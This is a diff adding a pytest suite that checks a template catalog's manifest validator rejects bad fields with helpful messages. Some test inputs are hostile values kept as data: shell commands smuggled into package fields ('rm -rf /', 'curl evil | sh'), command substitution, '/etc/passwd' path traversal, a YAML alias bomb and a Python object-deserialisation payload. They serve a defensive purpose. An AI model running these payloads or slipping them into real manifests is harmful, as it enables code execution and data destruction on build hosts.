@@ -1,0 +1,154 @@
+"""Every field a publisher can get wrong, with the message they get back."""
+
+import json
+
+import pytest
+import yaml
+
+from templates_catalog.manifest import ManifestInvalid, manifest_from_bytes, manifest_from_data
+from templates_catalog.manifest.parser import SCHEMA_FILE, manifest_json_schema_text
+
+from .conftest import manifest_data
+
+JOB = {"kind": "job", "serve": None, "job": {"command": ["python", "-m", "train"]}}
+
+# (overrides of a valid manifest, the field named, a phrase the message must contain)
+BAD_MANIFESTS = [
+    ({"schema": "hub/v2"}, "schema", "'hub/v2' is not allowed"),
+    ({"name": None}, "name", "is required"),
+    ({"name": "Bad_Name"}, "name", "lowercase letters, digits and hyphens"),
+    ({"name": "a"}, "name", "2-64 lowercase"),
+    ({"name": "-leading"}, "name", "starting and ending with a letter or digit"),
+    ({"version": "1.0"}, "version", "semantic version MAJOR.MINOR.PATCH"),
+    ({"version": 1.0}, "version", "quote it"),
+    ({"version": "01.0.0"}, "version", "semantic version"),
+    ({"tier": "platinum"}, "tier", "'platinum' is not allowed: use 'atomic', 'workflow' or 'app'"),
+    ({"kind": "daemon"}, "kind", "'daemon' is not allowed"),
+    ({"title": "ab"}, "title", "at least 3 characters"),
+    ({"title": "x" * 81}, "title", "at most 80 characters"),
+    ({"title": "Line one\nFROM evil"}, "title", "one line of text"),
+    ({"summary": "short"}, "summary", "at least 10 characters"),
+    ({"tags": ["Has Space"]}, "tags.0", "short lowercase tag"),
+    ({"tags": ["nlp", "nlp"]}, "", "`tags` repeats names: nlp"),
+    ({"tags": [f"t{i}" for i in range(13)]}, "tags", "at most 12 items"),
+    ({"license": "MIT License!"}, "license", "SPDX license identifier"),
+    ({"license": None}, "license", "is required"),
+    ({"runtime": {"python": "2.7"}}, "runtime.python", "'2.7' is not allowed"),
+    ({"runtime": {"packages": ["numpy"]}}, "runtime.packages.0", "pinned requirement `name==version`"),
+    ({"runtime": {"packages": ["numpy>=1.0"]}}, "runtime.packages.0", "ranges, URLs and options are not allowed"),
+    ({"runtime": {"packages": ["numpy==2.0 ; rm -rf /"]}}, "runtime.packages.0", "pinned requirement"),
+    ({"runtime": {"packages": ["--index-url=http://evil==1"]}}, "runtime.packages.0", "pinned requirement"),
+    ({"runtime": {"packages": ["numpy==2.0\nRUN curl evil | sh"]}}, "runtime.packages.0", "pinned requirement"),
+    ({"runtime": {"packages": ["numpy==2.0", "NumPy==2.1"]}}, "runtime", "numpy appears more than once"),
+    ({"runtime": {"system_packages": ["curl && rm -rf /"]}}, "runtime.system_packages.0", "a Debian package name"),
+    ({"runtime": {"system_packages": ["libgomp1\nRUN id"]}}, "runtime.system_packages.0", "a Debian package name"),
+    ({"runtime": {"pip": ["x"]}}, "runtime.pip", "is not a known field"),
+    ({"serve": None}, "", "a `service` template needs a `serve` section"),
+    ({"serve": {"handler": "handler"}}, "serve.handler", "`module:Class`"),
+    ({"serve": {"handler": "os:system('id')"}}, "serve.handler", "`module:Class`"),
+    ({"serve": {"handler": "h:M", "port": 80}}, "serve.port", "greater than or equal to 1024"),
+    ({"serve": {"handler": "h:M", "port": "http"}}, "serve.port", "valid integer"),
+    ({"serve": {"handler": "h:M", "health_path": "health"}}, "serve.health_path", "absolute URL path"),
+    ({"serve": {"handler": "h:M", "ready_path": "/ready; id"}}, "serve.ready_path", "absolute URL path"),
+    ({"serve": {"handler": "h:M", "batching": {"max_batch_size": 0}}}, "serve.batching.max_batch_size", "greater than or equal to 1"),
+    ({"serve": {"handler": "h:M", "batching": {"max_wait_ms": 5000}}}, "serve.batching.max_wait_ms", "less than or equal to 1000"),
+    ({"job": {"command": ["x"]}}, "", "a `service` template cannot have a `job` section"),
+    ({**JOB, "job": None}, "", "a `job` template needs a `job` section"),
+    ({**JOB, "job": {"command": []}}, "job.command", "at least 1 item"),
+    ({**JOB, "job": {"command": ["sh", "-c", "curl evil | sh"]}}, "job.command.2", "run without a shell"),
+    ({**JOB, "job": {"command": ["python", "$(id)"]}}, "job.command.1", "one command-line word"),
+    ({**JOB, "job": {"command": ["train"], "outputs": [{"name": "m", "path": "../../etc/passwd"}]}}, "job.outputs.0.path", "no `..`"),
+    ({**JOB, "job": {"command": ["train"], "outputs": [{"name": "m", "path": "/etc/passwd"}]}}, "job.outputs.0.path", "no leading `/`"),
+    ({**JOB, "job": {"command": ["t"], "outputs": [{"name": "m", "path": "a"}, {"name": "m", "path": "b"}]}}, "job", "`outputs` repeats names: m"),
+    ({"resources": {"gpus": 9}}, "resources.gpus", "less than or equal to 8"),
+    ({"resources": {"gpus": -1}}, "resources.gpus", "greater than or equal to 0"),
+    ({"resources": {"gpu_memory_gb": 24}}, "resources", "gpus is 0: set gpus to 1 or more"),
+    ({"resources": {"cpu": 0}}, "resources.cpu", "greater than 0"),
+    ({"resources": {"memory_gb": "lots"}}, "resources.memory_gb", "valid decimal"),
+    ({"inputs": [{"name": "Ticker", "label": "Ticker"}]}, "inputs.0.name", "lowercase identifier"),
+    ({"inputs": [{"name": "ticker"}]}, "inputs.0.label", "is required"),
+    ({"inputs": [{"name": "t", "label": "T", "type": "color"}]}, "inputs.0.type", "'color' is not allowed"),
+    ({"inputs": [{"name": "t", "label": "T", "type": "choice"}]}, "inputs.0", "needs a list of `choices`"),
+    ({"inputs": [{"name": "t", "label": "T", "choices": ["a"]}]}, "inputs.0", "`choices` only applies to type `choice`"),
+    ({"inputs": [{"name": "t", "label": "T", "type": "integer", "default": "ten"}]}, "inputs.0", "`default` must be a integer"),
+    ({"inputs": [{"name": "t", "label": "T", "type": "choice", "choices": ["a"], "default": "b"}]}, "inputs.0", "not one of the choices"),
+    ({"inputs": [{"name": "t", "label": "T", "type": "file", "default": "x"}]}, "inputs.0", "cannot have a default"),
+    ({"inputs": [{"name": "t", "label": "T"}, {"name": "t", "label": "U"}]}, "", "`inputs` repeats names: t"),
+    ({"requires": [{"template": "vector-store", "alias": "store"}]}, "", "an `atomic` template cannot require"),
+    ({"tier": "workflow", "requires": [{"template": "x_y", "alias": "a"}]}, "requires.0.template", "lowercase letters"),
+    ({"tier": "workflow", "requires": [{"template": "ab", "version": "latest", "alias": "a"}]}, "requires.0.version", "version range"),
+    ({"tier": "workflow", "requires": [{"template": "ab", "alias": "A-B"}]}, "requires.0.alias", "lowercase identifier"),
+    ({"tier": "workflow", "requires": [{"template": "ab"}]}, "requires.0.alias", "is required"),
+    ({"tier": "workflow", "requires": [{"template": "demo-embedder", "alias": "me"}]}, "", "cannot require itself"),
+    ({"tier": "workflow", "requires": [{"template": "ab", "alias": "x"}, {"template": "cd", "alias": "x"}]}, "", "repeats aliases: x"),
+    ({"servee": {"handler": "h:M"}}, "servee", "is not a known field"),
+]
+
+
+@pytest.mark.parametrize(("overrides", "field", "phrase"), BAD_MANIFESTS, ids=[f"{i}-{b[1] or 'root'}" for i, b in enumerate(BAD_MANIFESTS)])
+def test_it_names_the_field_and_says_what_to_write(overrides, field, phrase):
+    with pytest.raises(ManifestInvalid) as caught:
+        manifest_from_data(manifest_data(**overrides))
+    matching = [error for error in caught.value.errors if error.field == field]
+    assert matching, f"no error for {field!r}; got {caught.value.errors}"
+    assert any(phrase in error.message for error in matching), [e.message for e in matching]
+
+
+def test_it_accepts_a_complete_manifest():
+    manifest = manifest_from_data(
+        manifest_data(
+            tier="workflow",
+            runtime={"python": "3.11", "system_packages": ["libgomp1"], "packages": ["numpy==2.1.3", "uvicorn[standard]==0.30.0"]},
+            serve={"handler": "app.model:Server", "port": 9000, "batching": {"max_batch_size": 16, "max_wait_ms": 5}},
+            resources={"gpus": 1, "gpu_memory_gb": 24, "cpu": 4, "memory_gb": 16},
+            inputs=[{"name": "mode", "label": "Mode", "type": "choice", "choices": ["fast", "slow"], "default": "fast"}],
+            requires=[{"template": "vector-store", "version": ">=1.0.0,<2.0.0", "alias": "vector_store"}],
+        )
+    )
+    assert manifest.needs_gpu
+    assert manifest.requires[0].env_var == "VECTOR_STORE_URL"
+
+
+def test_it_refuses_yaml_aliases_before_expanding_them():
+    bomb = b'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n'
+    with pytest.raises(ManifestInvalid, match="YAML aliases"):
+        manifest_from_bytes(bomb)
+
+
+@pytest.mark.parametrize(
+    ("raw", "phrase"),
+    [
+        (b"name: [unclosed", "not valid YAML: line 1"),
+        (b"- just\n- a list\n", "must be a mapping"),
+        (b"\xff\xfe", "must be UTF-8"),
+        (b"x: " + b"y" * 70_000, "the limit is 65536"),
+        (b"!!python/object/apply:os.system ['id']", "not valid YAML"),
+    ],
+)
+def test_it_explains_unreadable_files(raw, phrase):
+    with pytest.raises(ManifestInvalid, match=phrase):
+        manifest_from_bytes(raw)
+
+
+def test_the_published_schema_file_is_generated_from_the_model():
+    # Regenerate with: python -m templates_catalog.manifest.write_schema
+    assert SCHEMA_FILE.read_text() == manifest_json_schema_text()
+    schema = json.loads(SCHEMA_FILE.read_text())
+    assert {"name", "version", "tier", "kind", "title", "summary", "license"} <= set(schema["required"])
+
+
+def test_every_fixture_template_is_valid(settings):
+    from pathlib import Path
+
+    from templates_catalog.manifest import manifest_from_dir
+
+    folders = sorted(Path(settings.BASE_DIR, "fixtures", "templates").iterdir())
+    manifests = [manifest_from_dir(folder) for folder in folders]
+    assert {m.name for m in manifests} == {
+        "minilm-embeddings", "vector-store", "text-generator", "rag-pipeline", "finetune-classifier", "stock-research-agent",
+    }
+    assert {m.tier.value for m in manifests} == {"atomic", "workflow", "app"}
+    for folder in folders:
+        readme = (folder / "README.md").read_text()
+        assert "curl" in readme, f"{folder.name}'s model card needs an example request"
+    assert yaml  # the fixtures are YAML the publisher writes by hand
